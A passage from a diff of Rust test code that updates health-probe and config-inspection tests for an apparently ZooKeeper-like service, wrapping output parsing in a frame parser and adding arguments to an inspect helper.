         assert_eq!(code, 0);
-        let h = parse_probe(&out);
+        let h = parse_probe(&Frames::parse(out.as_bytes()).unwrap());
         assert_eq!(h.detail, "srvr: no answer within 1 s", "{out}");
         assert!(started.elapsed() < Duration::from_secs(10));
         drop(silent);
@@ -799,7 +1137,7 @@ mod tests {
         let p = port.to_string();
         let (_, out, _) = run(Script::Probe, &["127.0.0.1", &p, &p, "4", "answers"], None);
         answers.join().unwrap();
-        let h = parse_probe(&out);
+        let h = parse_probe(&Frames::parse(out.as_bytes()).unwrap());
         assert!(h.healthy(), "{h:?}");
     }
 
@@ -827,10 +1165,10 @@ mod tests {
             client: port,
             metrics: port,
         };
-        let args = inspect_args(&o, ports);
+        let args = inspect_args(&o, ports, "sandbox", None);
         let (code, out, err) = run(Script::Inspect, &strs(&args), None);
         assert_eq!(code, 0, "{err}");
-        let observed = parse_inspect(&out).unwrap();
+        let observed = parse_inspect(out.as_bytes()).unwrap();
         assert!(observed
             .file("zoo.cfg")
             .unwrap()
